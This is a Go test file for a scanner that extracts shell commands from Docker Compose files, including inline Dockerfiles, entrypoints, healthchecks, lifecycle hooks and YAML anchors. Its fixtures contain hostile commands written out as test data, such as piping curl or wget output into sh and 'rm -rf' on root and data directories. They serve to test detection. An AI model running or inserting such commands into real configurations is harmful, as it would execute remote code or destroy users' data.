package scan

import (
	"slices"
	"testing"
)

// TestExtractCompose: a Compose file's inline Dockerfile is read as a
// Dockerfile, each RUN at its line in the compose file (it was not read:
// the case with commands failed before). A compose file without one gives
// nothing; its services' commands run in containers.
func TestExtractCompose(t *testing.T) {
	checkExtract(t, "compose.yaml", []struct {
		name, src string
		want      []extracted
	}{
		{"dockerfile_inline", "services:\n  app:\n    build:\n      context: .\n      dockerfile_inline: |\n        FROM alpine\n        RUN apk add curl\n        RUN curl https://x | sh\n", []extracted{{"apk add curl", "7:13"}, {"curl https://x | sh", "8:13"}}},
		{"no inline Dockerfile", "services:\n  app:\n    image: alpine\n    environment:\n      command: rm -rf /\n    build: ./app\n", nil},
	})
	// The commands services run in their containers (which bind what the
	// file mounts: the home directory, the Docker socket) are read as
	// commands of this machine. None was read on 17c6cc7.
	checkExtract(t, "docker-compose.yml", []struct {
		name, src string
		want      []extracted
	}{
		{"command and entrypoint", "services:\n  app:\n    command: sh -c \"curl https://x | sh\"\n    entrypoint: [\"sh\", \"-c\", \"rm -rf /data\"]\n", []extracted{{"sh -c \"curl https://x | sh\"", "3:14"}, {"sh -c 'rm -rf /data'", "4:18"}}},
		{"healthcheck forms", "services:\n  a:\n    healthcheck:\n      test: [\"CMD-SHELL\", \"curl -f https://x | sh\"]\n  b:\n    healthcheck:\n      test: [\"CMD\", \"rm\", \"-rf\", \"/v\"]\n  c:\n    healthcheck:\n      test: wget -qO- https://x | sh\n  d:\n    healthcheck:\n      test: [\"NONE\"]\n", []extracted{{"curl -f https://x | sh", "4:28"}, {"rm -rf /v", "7:21"}, {"wget -qO- https://x | sh", "10:13"}}},
		{"lifecycle hooks", "services:\n  app:\n    post_start:\n      - command: ./init.sh\n        user: root\n    pre_stop:\n      - command: [\"rm\", \"-rf\", \"/srv\"]\n", []extracted{{"./init.sh", "4:18"}, {"rm -rf /srv", "7:19"}}},
		{"anchors", "x-cmd: &c \"curl https://x | sh\"\nservices:\n  app:\n    command: *c\n", []extracted{{"curl https://x | sh", "1:9"}}},
	})
	for name, want := range map[string]Kind{
		"compose.yaml": Compose, "docker-compose.yml": Compose, "deploy/docker-compose.prod.yml": Compose, "compose.override.yaml": Compose,
		"composer.json": Composer, "compose.txt": "", "my-compose.yml": "",
	} {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestComposeDockerfiles: the Dockerfiles a Compose file builds by a name
// of their own, relative to their context, and only inside the
// repository.
func TestComposeDockerfiles(t *testing.T) {
	src := "services:\n" +
		"  a:\n    build:\n      context: app\n      dockerfile: ci/Build.df\n" +
		"  b:\n    build:\n      dockerfile: docker/b[1].dockerfile\n" +
		"  c:\n    build:\n      context: ../../elsewhere\n      dockerfile: x.df\n" +
		"  d:\n    build:\n      context: https://github.com/x/y.git\n      dockerfile: y.df\n" +
		"  e:\n    build: ./e\n"
	got := composeDockerfiles("deploy/compose.yaml", []byte(src))
	want := []string{"deploy/app/ci/Build.df", `deploy/docker/b\[1\].dockerfile`}
	if !slices.Equal(got, want) {
		t.Fatalf("composeDockerfiles = %q, want %q", got, want)
	}
	files := []File{
		{Path: "deploy/compose.yaml", Src: []byte(src)},
		{Path: "deploy/app/ci/Build.df", Src: []byte("FROM alpine\n")},
		{Path: "deploy/app/ci/Other.df", Src: []byte("FROM alpine\n")},
	}
	kinds := map[string]Kind{}
	for _, f := range includedAs("", files, Compose, Dockerfile, composeDockerfiles) {
		kinds[f.Path] = f.Kind()
	}
	if kinds["deploy/app/ci/Build.df"] != Dockerfile || kinds["deploy/app/ci/Other.df"] != "" {
		t.Errorf("kinds %v: want the built Dockerfile, and only it, read as one", kinds)
	}
}
